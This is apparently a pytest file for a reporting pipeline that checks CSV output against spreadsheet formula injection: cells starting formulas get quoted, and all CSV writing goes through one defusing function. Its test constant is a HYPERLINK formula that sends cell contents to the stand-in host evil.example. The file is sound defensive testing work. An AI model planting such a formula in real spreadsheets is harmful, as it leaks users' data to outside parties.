"""What iopress writes from hostile data (issue 32): CSV cells a spreadsheet would run as
formulas, and control characters printed to the terminal."""

from __future__ import annotations

import ast
import csv
import re
import shutil
from pathlib import Path

import polars as pl

from pipeline.build import prepare, write_data
from pipeline.csvfile import defused
from tests.conftest import FS840

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


# --- CSV formula injection -----------------------------------------------------------------


def test_text_cells_that_start_a_formula_are_quoted_numbers_are_not() -> None:
    texts = [FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "FS 900", " =x", None]
    frame = pl.DataFrame({"text": texts, "n": [-1.5, *range(len(texts) - 1)]})
    frame = frame.with_columns(pl.col("text").cast(pl.Categorical).alias("category"))
    out = defused(frame)
    quoted = ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "FS 900", " =x", None]
    assert out["text"].to_list() == quoted
    assert out["category"].to_list() == quoted
    assert out["n"].to_list() == frame["n"].to_list()


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_csv_of_a_build_quotes_a_formula(tmp_path: Path) -> None:
    """A cost system named as a formula went verbatim into tables/cost.csv and the site's
    download (a copy of it); every CSV of the build is checked."""
    report = Path(shutil.copytree(FS840, tmp_path / "report"))
    toml = report / "report.toml"
    text = toml.read_text(encoding="utf-8")
    hostile = FORMULA.replace('"', '\\"')
    toml.write_text(text.replace('system = "FS 840"', f'system = "{hostile}"'), "utf-8")
    work = tmp_path / "work"
    work.mkdir()
    write_data(prepare(report), work)
    written = sorted(work.rglob("*.csv"))
    assert work / "tables" / "cost.csv" in written
    assert f"'{FORMULA}" in _csv_cells(work / "tables" / "cost.csv")
    for path in written:
        live = [c for c in _csv_cells(path) if FORMULA_START.match(c) and not _is_number(c)]
        assert live == [], path


WRITERS = ("write_csv", "sink_csv", "writer", "DictWriter")


def test_every_csv_writer_goes_through_csvfile() -> None:
    """One function writes CSV (``pipeline.csvfile.write_csv``): no module calls polars'
    ``write_csv`` or the csv module's writers itself."""
    found = []
    for path in sorted((ROOT / "pipeline").rglob("*.py")):
        if path.name == "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in WRITERS:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {node.attr}")
    assert found == []
